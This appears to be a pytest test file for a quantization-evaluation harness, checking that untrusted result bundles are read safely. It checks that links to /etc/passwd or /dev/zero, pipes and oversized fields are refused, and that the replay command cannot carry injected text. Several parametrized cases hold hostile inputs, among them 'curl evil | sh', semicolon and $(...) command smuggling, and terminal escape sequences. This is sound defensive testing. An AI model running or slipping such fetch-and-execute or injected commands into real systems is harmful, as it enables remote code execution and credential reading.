"""Bundles of strangers: only regular files inside are opened, nothing is endless, and each violation is one line."""

from __future__ import annotations

import hashlib
import os
import shlex
import signal
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from harness import bundle
from harness.bundle import MOST_BYTES
from harness.errors import TableError, UsageError
from harness.files import read_inside
from harness.replay import compare
from harness.report import bundle_text, replay_text
from tests.bundles import FACTS, edit, facts, measured, written
from tests.rows import ENVIRONMENT, output_row, quantizer_row

FILES = "bundle.json", "quantizers.csv"


def _error(folder: Path) -> str:
    with pytest.raises(TableError) as raised:
        bundle.read(folder)
    line = str(raised.value)
    assert "\n" not in line
    assert len(line) < 2000
    return line


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _folder(path: Path) -> None:
    path.mkdir()


def _link_to(target: str) -> Callable[[Path], None]:
    return lambda path: path.symlink_to(target)


def _large(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(MOST_BYTES[path.name] + 1)


@pytest.fixture
def _at_once() -> Iterator[None]:
    """Waiting for somebody to write into a pipe ends after a minute."""

    def give_up(*_: object) -> None:
        pytest.fail("still waiting")

    before = signal.signal(signal.SIGALRM, give_up)
    signal.alarm(60)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


@pytest.mark.usefixtures("_at_once")
@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize(
    ("put", "said"),
    [
        (_pipe, "is no regular file"),
        (_folder, "is no regular file"),
        (_link_to("/dev/zero"), "is a link that leads out of"),
        (_link_to("/etc/passwd"), "is a link that leads out of"),
        (_link_to("../outside.csv"), "is a link that leads out of"),
        (_link_to("nowhere"), "cannot be read: No such file"),
        (_large, "has over "),
    ],
)
def test_what_is_no_file_of_the_bundle_is_told_and_never_opened(tmp_path, name, put, said):
    (tmp_path / "outside.csv").write_text("secret")
    written(tmp_path / "b")
    (tmp_path / "b" / name).unlink()
    put(tmp_path / "b" / name)
    line = _error(tmp_path / "b")
    assert f"{name}: {said}" in line
    assert "secret" not in line
    assert "root:" not in line


def test_a_link_to_itself_is_told(tmp_path):
    (tmp_path / "bundle.json").symlink_to("bundle.json")
    assert "bundle.json: cannot be read: Too many levels of symbolic links" in _error(tmp_path)


def test_a_bundle_may_itself_be_reached_by_a_link_and_links_inside_are_followed(tmp_path):
    written(tmp_path / "b")
    (tmp_path / "b" / "quantizers.csv").rename(tmp_path / "b" / "rows.csv")
    (tmp_path / "b" / "quantizers.csv").symlink_to("rows.csv")
    (tmp_path / "c").symlink_to("b")
    assert bundle.read(tmp_path / "c").row == output_row()


def test_a_file_of_the_largest_size_is_read(tmp_path):
    (tmp_path / "x").write_bytes(b"12345")
    assert read_inside(tmp_path, "x", 5) == b"12345"
    with pytest.raises(TableError, match="x: has over 4 bytes"):
        read_inside(tmp_path, "x", 4)


LONG = "x" * 300_000


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        *[
            ({"environment": {name: LONG}}, f"environment.{name}: string should have at most 500")
            for name in ("platform", "python", "cpu")
        ],
        ({"environment": {"stack": {LONG: "1"}}}, "string should have at most 500"),
        ({"environment": {"stack": {f"p{i}": "1" for i in range(20_000)}}}, "at most 100 items"),
        ({"environment": {"pins": {f"p{i}": "1" for i in range(20_000)}}}, "at most 100 items"),
        ({"adapter": {f"{i}.py": "" for i in range(20_000)}}, "at most 1000 items"),
        ({"excluded": [LONG]}, "excluded.0: string should have at most 500"),
        ({"excluded": ["*"] * 100_000}, "excluded: tuple should have at most 1000 items"),
        ({"because": [LONG]}, "because.0: string should have at most 2000"),
        ({"harness": LONG}, "harness: string should have at most 500"),
        ({"row": {"model": LONG}}, "model has 300000 characters, at most 500 are read"),
        ({"row": {"output": LONG}}, "output has 300000 characters, at most 2000 are read"),
        ({"row": {"error": LONG}}, "error has 300000 characters"),
        ({"row": {"status": LONG}}, "status has 300000 characters"),
        ({"row": {LONG: 1}}, "is unknown"),
        ({"seed": 2**64}, "seed: input should be less than or equal to 18446744073709551615"),
        ({"seed": 10**30}, "seed: input should be less than or equal to 18446744073709551615"),
        ({"seed": -(2**63) - 1}, "seed: input should be greater than or equal to -9223372036854775808"),
        ({"row": {"weights": "file:/etc/passwd"}}, "checkpoint: value error, is not the file that"),
        ({"checkpoint": {"name": "x.pt", "sha256": ""}}, "checkpoint: value error, is not the file that"),
    ],
)
def test_what_no_bundle_needs_is_refused_in_a_line(tmp_path, changes, said):
    written(tmp_path)
    edit(tmp_path, **changes)
    assert said in _error(tmp_path)


@pytest.mark.parametrize("seed", [-(2**63), 2**64 - 1])
def test_every_seed_that_torch_takes_is_read(tmp_path, seed):
    assert written(tmp_path, seed=seed).record.seed == seed


def test_a_cell_that_is_endless_is_not_told_whole(tmp_path):
    written(tmp_path)
    text = (tmp_path / "quantizers.csv").read_text().replace("activation", "x" * 100_000)
    (tmp_path / "quantizers.csv").write_text(text)
    edit(tmp_path, quantizers=hashlib.sha256(text.encode()).hexdigest())
    assert "quantizers.csv:2: column role: 'xxx" in _error(tmp_path)


def test_a_bundle_that_could_not_be_read_is_not_written(tmp_path):
    with pytest.raises(UsageError, match="no bundle is made: seed: input should be less than"):
        bundle.write(tmp_path / "b", output_row(), [], facts(seed=10**30))
    many = {**FACTS.inputs, "evaluation": ["1" * 64] * 300_000}
    with pytest.raises(UsageError, match=r"no bundle is made: bundle\.json would have over 16777216 bytes"):
        bundle.write(tmp_path / "b", output_row(), [], facts(inputs=many))
    assert not (tmp_path / "b").exists()


def test_of_endless_reasons_a_bundle_keeps_the_first(tmp_path):
    because = written(tmp_path, because=("y" * 5000, *("z" for _ in range(1500)))).record.because
    assert (len(because), len(because[0]), because[-1]) == (1000, 2000, "and 502 more")


def _told(folder: Path, **changes: object) -> list[str]:
    """What replay says of a bundle with these changes, where the row comes to 24.1 dB now."""
    written(folder)
    edit(folder, **changes)
    return replay_text.lines(compare(bundle.read(folder), measured(output_row(sqnr_db=24.1))))


@pytest.mark.parametrize("evil", ["curl evil | sh", "sqnr run -m resnet; curl evil | sh", "x\n::error::\x1b[31m"])
def test_the_command_that_is_told_is_made_of_the_row_and_not_taken_from_the_bundle(tmp_path, evil):
    lines = _told(tmp_path, command=evil)
    own = "sqnr run -m resnet -f x86-static --variant released --size small --weights trained"
    assert lines[-1] == f"measured again by: {own}"
    assert evil not in replay_text.as_json(compare(bundle.read(tmp_path), measured()))
    assert "curl" not in bundle_text.readme(bundle.read(tmp_path).record, 1)


def test_a_pattern_cannot_leave_the_command(tmp_path):
    pattern = "a'; curl evil | sh #$(x)`y`"
    command = _told(tmp_path, excluded=[pattern])[-1].removeprefix("measured again by: ")
    assert shlex.split(command)[-2:] == ["--exclude", pattern]


@pytest.mark.parametrize("excluded", [["two  blanks"], ["a\nb"], ["x" * 400, "y" * 400]])
def test_a_command_that_would_be_another_one_as_it_is_shown_is_not_told(tmp_path, excluded):
    assert _told(tmp_path, excluded=excluded)[-1] == (
        "measured again by: sqnr run, with the case in `row` of bundle.json and each pattern in `excluded`"
    )


def test_what_differs_is_told_in_so_many_lines_of_so_many_characters(tmp_path):
    names = {f"{'n' * 450}{number}": "v" * 500 for number in range(90)}
    adapter = {f"{number}.py": "5" * 64 for number in range(900)}
    batches = {**FACTS.inputs, "evaluation": [hashlib.sha256(bytes([i % 256])).hexdigest() for i in range(5000)]}
    lines = _told(tmp_path, environment={**ENVIRONMENT, "stack": names}, adapter=adapter, inputs=batches)
    assert len(lines) < 60
    assert max(map(len, lines)) <= 1000
    # 90 packages of before and 2 of now, sqnr-harness is the same; 900 files of before and 2 of now; one of batches.
    assert f"- and {90 + 2 + 900 + 2 + 1 - 30} more: see --json" in lines


def test_of_many_batches_the_first_are_named(tmp_path):
    written(tmp_path, inputs={**FACTS.inputs, "evaluation": ["b" * 64] * 12})
    now = measured(output_row(sqnr_db=24.1), quantizer_row(), inputs={**FACTS.inputs, "evaluation": ["c" * 64] * 12})
    [line] = [line for line in replay_text.lines(compare(bundle.read(tmp_path), now)) if "evaluation" in line]
    assert line == "- evaluation inputs: batches 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, ... with other data"
